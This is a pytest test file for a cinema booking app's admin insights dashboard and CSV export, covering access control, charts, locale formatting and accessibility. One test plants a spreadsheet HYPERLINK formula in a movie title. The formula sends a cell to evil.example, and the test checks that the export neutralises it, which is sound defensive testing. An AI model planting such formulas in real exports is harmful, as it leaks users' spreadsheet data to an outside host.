from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.tests.factories import UserFactory
from bookings import insights
from bookings.reports import ReportRow, default_report_range
from bookings.tests.factories import make_booking
from bookings.tests.report_fixtures import (
    EXPECTED_TIME_SLOT,
    EXPECTED_TOTAL,
    EXPECTED_WEEKDAY,
    build_week,
    local,
)
from theaters.tests.factories import RoomFactory, ShowtimeFactory

DASHBOARD = reverse("insights:dashboard")
EXPORT = reverse("insights:export")

# checked_in, attendance, no_shows of sessions still ahead.
NOBODY_CAME = ["0", "0.0000", "0"]


@pytest.fixture
def week(customer, other_customer, staff):
    return build_week(customer=customer, other_customer=other_customer, staff=staff)


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def week_query(week, group_by: str = "weekday") -> dict:
    return {"group_by": group_by, "from": week.monday.isoformat(), "to": week.sunday.isoformat()}


def test_it_is_at_admin_insights():
    assert DASHBOARD == "/admin/insights/"


def test_the_admin_index_links_to_it(staff_client):
    response = staff_client.get(reverse("admin:index"))

    assert response.status_code == 200
    assert re.search(rf'<a href="{DASHBOARD}"[^>]*>Insights</a>', response.content.decode())


def test_it_sends_anonymous_visitors_to_the_admin_login(client, db):
    for url in (DASHBOARD, EXPORT):
        response = client.get(url)

        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


def test_it_refuses_customers(client, customer):
    client.force_login(customer)

    assert client.get(DASHBOARD).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_it_shows_the_chosen_grouping_with_its_numbers(staff_client, week):
    response = staff_client.get(DASHBOARD, week_query(week, "time_slot"))

    assert response.status_code == 200
    rows = {row.key: row for row in response.context["rows"]}
    assert list(rows) == list(EXPECTED_TIME_SLOT)
    assert rows["late"].tickets == 6
    html = response.content.decode()
    assert "Late (21:00 and after)" in html
    assert '<td class="num">75.00</td>' in html
    assert '<td class="num">15.0%</td>' in html


def test_it_defaults_to_weekdays_over_the_last_30_days_and_the_next_30(staff_client, db):
    response = staff_client.get(DASHBOARD)

    first, last = default_report_range()
    assert response.context["group_by"] == "weekday"
    assert (response.context["date_from"], response.context["date_to"]) == (first, last)
    assert f'value="{first.isoformat()}"' in response.content.decode()


def test_its_tabs_are_links_that_keep_the_range(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week, "movie")).content.decode()

    range_part = f"from={week.monday.isoformat()}&amp;to={week.sunday.isoformat()}"
    assert f'href="?group_by=weekday&amp;{range_part}">By weekday</a>' in html
    assert f'href="?group_by=movie&amp;{range_part}" aria-current="page">By movie</a>' in html


def test_its_chart_is_svg_with_a_labelled_bar_per_row_that_scales_to_its_box(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    start = html.index('<svg class="insights-chart"')
    chart = html[start : html.index("</svg>", start)]
    assert 'viewBox="0 0 400 336" width="100%"' in chart  # 28 for the axis + 7 rows of 44
    assert chart.count('class="chart-bar"') == 7
    assert ">Wednesday</text>" in chart
    assert 'text-anchor="end">14.0% · 7 of 50 seats</text>' in chart
    # 14 % of the 368-unit bar area.
    assert 'class="chart-bar" x="16" y="137" width="52"' in chart


def test_its_chart_cuts_a_long_label_to_leave_room_for_its_value(staff_client, week):
    title = "The Extraordinarily Long Title of a Director's Cut, Remastered"
    ShowtimeFactory(movie__title=title, starts_at=local(week.monday, 15))

    chart = staff_client.get(DASHBOARD, week_query(week, "movie")).context["chart"]

    bar = chart.bars[-1]
    assert (bar.full_label, bar.value) == (title, "0.0% · 0 of 40 seats")
    assert bar.label == title[:29] + "…"
    assert len(bar.label) + len(bar.value) <= 50


def test_its_heatmap_shows_every_weekday_and_slot_with_values_as_text(staff_client, week):
    response = staff_client.get(DASHBOARD, week_query(week))

    heatmap = response.context["heatmap"]
    assert len(heatmap) == 7 and all(len(day["cells"]) == 4 for day in heatmap)
    html = response.content.decode()
    table = html[html.index('class="insights-heatmap"') :]
    assert '<td class="heat heat-1">\n              30.0%<span class="heat-detail">3 / 10</span>' in table
    assert table.count("heat-none") == 24


def test_it_lists_upcoming_showtimes_fullest_first_with_meters(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    meters = re.findall(r'<meter min="0" max="(\d+)" value="(\d+)"', html)
    assert meters == [("10", "3"), ("40", "6"), ("10", "1"), ("40", "2")]


def test_it_shows_the_totals_of_the_range(staff_client, week):
    response = staff_client.get(DASHBOARD, week_query(week))

    totals = response.context["totals"]
    sessions, bookings, tickets, revenue, seats, occupancy = EXPECTED_TOTAL
    assert (totals.sessions, totals.bookings, totals.tickets, f"{totals.revenue}") == (
        sessions,
        bookings,
        tickets,
        revenue,
    )
    assert "<dt>Revenue</dt><dd>128.00</dd>" in response.content.decode()


def test_it_shows_form_errors_instead_of_failing_on_bad_dates(staff_client, db):
    response = staff_client.get(DASHBOARD, {"from": "2026-03-02", "to": "2026-03-01"})

    assert response.status_code == 200
    assert "The end date must not be before the start date." in response.content.decode()
    assert "rows" not in response.context


def test_it_has_no_inline_styles_or_scripts(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    assert " style=" not in html
    assert "<style" not in html
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    assert "/static/css/insights.css" in html


def test_it_renders_in_a_constant_number_of_queries(staff_client, week, customer, django_assert_num_queries):
    def render() -> None:
        # 1 session, 2 user, 3 report, 4 heatmap, 5 totals, 6 upcoming showtimes
        with django_assert_num_queries(6):
            assert staff_client.get(DASHBOARD, week_query(week, "movie")).status_code == 200

    render()
    # Many more bookings, sessions and movies in the range: still the same queries.
    room = RoomFactory(rows=4, seats_per_row=10)
    for day in range(7):
        showtime = ShowtimeFactory(room=room, starts_at=local(week.monday + timedelta(days=day), 15))
        for row in "ABCD":
            make_booking(user=UserFactory(), showtime=showtime, labels=[f"{row}{n}" for n in range(1, 6)])
    render()


def test_the_csv_export_is_a_named_utf8_attachment_with_a_header(staff_client, week):
    response = staff_client.get(EXPORT, week_query(week, "time_slot"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="bookings-by-time-slot-{week.monday}-to-{week.sunday}.csv"'
    )
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    # The keys scripts already read, then the percentage and the seats offered.
    assert lines[0] == [
        "key",
        "label",
        "sessions",
        "bookings",
        "tickets",
        "revenue (EUR)",
        "occupancy",
        "occupancy_percent",
        "seats_offered",
        "checked_in",
        "attendance",
        "no_shows",
    ]
    assert lines[1:] == [
        ["morning", "Morning (before 12:00)", "1", "1", "2", "20.00", "0.0500", "5.0", "40", *NOBODY_CAME],
        ["afternoon", "Afternoon (12:00–16:59)", "1", "1", "1", "9.00", "0.1000", "10.0", "10", *NOBODY_CAME],
        ["evening", "Evening (17:00–20:59)", "1", "1", "3", "24.00", "0.3000", "30.0", "10", *NOBODY_CAME],
        ["late", "Late (21:00 and after)", "1", "1", "6", "75.00", "0.1500", "15.0", "40", *NOBODY_CAME],
    ]


def test_the_dashboard_links_a_csv_per_grouping(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    for group_by in ("weekday", "time_slot", "movie"):
        link = f"{EXPORT}?group_by={group_by}&amp;from={week.monday}&amp;to={week.sunday}"
        assert f'href="{link}"' in html


def test_the_csv_export_answers_400_to_a_bad_query(staff_client, db):
    response = staff_client.get(EXPORT, {"group_by": "year"})

    assert response.status_code == 400
    assert "group_by" in response.content.decode()


def test_the_weekday_csv_lists_all_seven_days(staff_client, week):
    response = staff_client.get(EXPORT, week_query(week))

    keys = [line[0] for line in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert keys == list(EXPECTED_WEEKDAY)


def test_the_csv_export_never_carries_a_live_formula_from_a_movie_title(staff_client, week):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    ShowtimeFactory(movie__title=evil, starts_at=local(week.monday, 15))

    response = staff_client.get(EXPORT, week_query(week, "movie"))

    rows = {line[1]: line for line in csv.reader(io.StringIO(response.content.decode("utf-8")))}
    assert set(rows) == {"label", "Alpha", "Bravo", "'" + evil}
    # The numbers beside it are untouched.
    assert rows["'" + evil][2:] == ["1", "0", "0", "0.00", "0.0000", "0.0", "40", *NOBODY_CAME]


@pytest.fixture
def big_numbers(monkeypatch):
    """A report with numbers in the thousands, which no test week can afford to book."""
    row = ReportRow(
        key="monday",
        label="Monday",
        sessions=1234,
        bookings=5678,
        tickets=12345,
        revenue=Decimal("123456.5"),
        seats_offered=45678,
    )
    monkeypatch.setattr(insights, "booking_report", lambda **query: [row])
    monkeypatch.setattr(insights, "booking_report_totals", lambda **query: replace(row, key="total"))
    return row


def test_it_writes_counts_with_thousands_separators_money_with_two_decimals_and_occupancy_as_a_percent(
    staff_client, big_numbers
):
    html = staff_client.get(DASHBOARD).content.decode()

    row = re.search(r'<th scope="row">Monday</th>(.*?)</tr>', html, re.DOTALL).group(1)
    assert re.findall(r'<td class="num">([^<]*)</td>', row) == [
        "1,234",
        "5,678",
        "12,345",
        "45,678",
        "123,456.50",
        "27.0%",  # 12,345 of 45,678
        "0.0%",  # attendance: nobody checked in
        "0",  # no-shows
    ]
    assert "<dt>Revenue</dt><dd>123,456.50</dd>" in html
    assert "<dt>Seats offered</dt><dd>45,678</dd>" in html
    assert 'text-anchor="end">27.0% · 12,345 of 45,678 seats</text>' in html


def test_its_numbers_follow_the_theaters_locale(staff_client, big_numbers, settings):
    settings.LANGUAGE_CODE = "de"

    html = staff_client.get(DASHBOARD).content.decode()

    assert "<dt>Revenue</dt><dd>123.456,50</dd>" in html
    assert '<td class="num">12.345</td>' in html
    assert '<td class="num">27,0%</td>' in html
    assert 'text-anchor="end">27,0% · 12.345 of 45.678 seats</text>' in html


def test_its_staff_wording_says_showtimes_not_sessions(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    content = html[html.index('<div id="content-main"') :]
    text = re.sub(r"<[^>]+>", " ", content)
    assert not re.search(r"\bsessions?\b", text, re.IGNORECASE)
    assert '<th scope="col" class="num">Showtimes</th>' in content
    assert "<dt>Showtimes</dt><dd>4</dd>" in content


@pytest.mark.parametrize(
    ("language", "typed_from", "typed_to"),
    [
        ("en-us", "03/02/2026", "3/8/2026"),
        ("de", "02.03.2026", "08.03.2026"),
        ("de", "2026-03-02", "2026-03-08"),  # YYYY-MM-DD works whatever the locale
    ],
)
def test_its_date_inputs_take_the_locales_format_and_show_yyyy_mm_dd(
    staff_client, db, settings, language, typed_from, typed_to
):
    settings.LANGUAGE_CODE = language

    response = staff_client.get(DASHBOARD, {"group_by": "weekday", "from": typed_from, "to": typed_to})

    assert (response.context["date_from"], response.context["date_to"]) == (
        date(2026, 3, 2),
        date(2026, 3, 8),
    )
    html = response.content.decode()
    # A type="date" input takes only YYYY-MM-DD; the browser shows it in its user's locale.
    assert '<input type="date" name="from" value="2026-03-02"' in html
    assert '<input type="date" name="to" value="2026-03-08"' in html
    heading = {
        "en-us": "Totals, March 2, 2026 to March 8, 2026",
        "de": "Totals, 2. März 2026 to 8. März 2026",
    }
    assert heading[language] in html


def test_its_csv_export_takes_the_locales_dates_too(staff_client, week, settings):
    settings.LANGUAGE_CODE = "de"

    response = staff_client.get(
        EXPORT, {"group_by": "weekday", "from": f"{week.monday:%d.%m.%Y}", "to": f"{week.sunday:%d.%m.%Y}"}
    )

    assert response.status_code == 200
    assert f"bookings-by-weekday-{week.monday}-to-{week.sunday}.csv" in response["Content-Disposition"]


def test_its_tables_scroll_in_labelled_boxes_of_their_own(staff_client, week):
    html = staff_client.get(DASHBOARD, week_query(week)).content.decode()

    boxes = re.findall(
        r'<div class="insights-scroll" tabindex="0" role="region" aria-labelledby="([^"]+)">', html
    )
    assert boxes == ["report-caption", "heatmap-heading", "upcoming-heading"]
    assert html[html.index('<div id="content-main"') :].count("<table") == 3
